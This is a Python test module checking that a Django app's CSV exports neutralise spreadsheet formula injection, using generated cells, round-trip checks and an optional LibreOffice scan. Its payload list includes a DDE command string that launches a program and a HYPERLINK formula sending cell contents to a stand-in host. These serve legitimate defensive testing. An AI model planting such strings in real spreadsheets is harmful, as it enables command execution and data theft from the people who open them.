"""P-62: a table we give out runs nothing in a spreadsheet program and comes back cell for cell; all of them come from one writer.

Short: some thousand cells that look for trouble; ``PROMISES_LONG=1``: 100,000, and the same opened in LibreOffice.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from manyhands.exchange import exporting
from manyhands.exchange.models import Ask
from manyhands.kernel.sheets import read, write_csv
from tests import cast

LONG = bool(os.environ.get("PROMISES_LONG"))
HOUSE = Path(__file__).resolve().parents[2] / "src" / "manyhands"
ROWS, COLUMNS = 25, 8
TABLES = 500 if LONG else 20
FORMULA = re.compile(r"[\s\x00\ufeff]*[=+\-@＝＋－＠]")
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\x00", "'", "＝", "＋", "－", "＠", " =", "\t=", "'=", "''", "\ufeff=", '"', ",", ";", "\r\n=", "\u00a0="]  # fmt: skip
ENDS = [
    "",
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?"&A1)',
    "17185550123",
    "7185550123",
    "SUM(1,2)",
    "x\ny",
    '"',
    "中文",
    "ع",
]
CELL = st.builds(str.__add__, st.sampled_from(STARTS), st.sampled_from(ENDS)) | st.text(
    st.characters(exclude_categories=["Cs"]), max_size=12
)
# The first cell says that there is a row: one of nothing but blanks is no row to anybody who reads a sheet.
TABLE = st.lists(
    st.lists(CELL, min_size=COLUMNS, max_size=COLUMNS).map(lambda row: ["k" + row[0], *row[1:]]), min_size=ROWS, max_size=ROWS
)  # fmt: skip
HEADINGS = ["Name", "Phone", "Email", "Address", "Notes", "Status", "Need", "City"]


@given(TABLE)
@settings(max_examples=TABLES, deadline=None)
def test_every_cell_comes_back_and_none_is_a_formula(rows):
    data = write_csv(HEADINGS, rows)
    assert [list(line.cells) for line in read(data).lines] == rows
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [cell for cell in cells if FORMULA.match(cell)]


@pytest.mark.parametrize("number", ["+1 718 555 0123", "+17185550123", "'+1718", "-5", "@handle", "=1", "\t+1"])
def test_what_starts_like_a_formula_is_kept_through_the_whole_house(town, number):
    """Through the database, out of the network's own export, and read again: twice over nothing grows or goes."""
    words = f"{number} groceries"
    ask = cast.ask(town.riverside, words=words, name=f"{number} Ada", reach="+1 718 555 0144")
    cast.two_agree(town.riverside, town.dee, town.sol, now=timezone.now())
    files = exporting.give_back(town.riverside, by=town.dee, now=timezone.now())
    table = read(files["asks.csv"])
    line = next(line for line in table.lines if ask.code in line.cells)
    kept = Ask.objects.get(pk=ask.pk)
    assert {kept.words, kept.asking.asked_by.name, "+17185550144"} <= set(line.cells)
    again = read(write_csv(table.headings, [line.cells for line in table.lines]))
    assert [line.cells for line in again.lines] == [line.cells for line in table.lines]


def test_no_other_place_writes_a_table():
    writes = re.compile(
        r"csv\.(writer|DictWriter)|import (writer|DictWriter)|xlsxwriter|Workbook\(|from openpyxl import|import openpyxl"
        r"|pandas|[\"']\\t[\"']\.join|[\"'],[\"']\.join\([^)]*\)\s*\+\s*[\"']\\n"
    )
    offenders = [str(path.relative_to(HOUSE)) for path in HOUSE.rglob("*.py") if writes.search(path.read_text())]
    assert offenders == ["kernel/sheets/writing.py"]
    # And whatever is sent as a table was written there.
    for path in HOUSE.rglob("*.py"):
        if "text/csv;" in (text := path.read_text()):
            assert "write_csv(" in text or "as_csv" in text, path


@pytest.mark.skipif(not LONG, reason="The long form opens it in LibreOffice.")
def test_libreoffice_finds_no_formula(tmp_path):
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed: no spreadsheet program looked at our tables.")
    rows = [["k", *(start + end for end in ENDS)] for start in STARTS if "\x00" not in start]
    (tmp_path / "out.csv").write_bytes(write_csv([f"H{number}" for number in range(len(ENDS) + 1)], rows))
    subprocess.run(
        [office, "--headless", f"-env:UserInstallation={(tmp_path / 'office').as_uri()}", "--convert-to", "fods", "out.csv"],
        cwd=tmp_path, check=True, timeout=180, capture_output=True,
    )  # fmt: skip
    assert "table:formula" not in (tmp_path / "out.fods").read_text(encoding="utf-8")


def test_every_table_of_an_archive_is_read_again(town):
    cast.two_agree(town.riverside, town.dee, town.sol, now=timezone.now())
    files = exporting.give_back(town.riverside, by=town.dee, now=timezone.now())
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    assert len(files) > 8
    for data in files.values():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert not [
            cell for row in rows for cell in row if FORMULA.match(cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
        ]
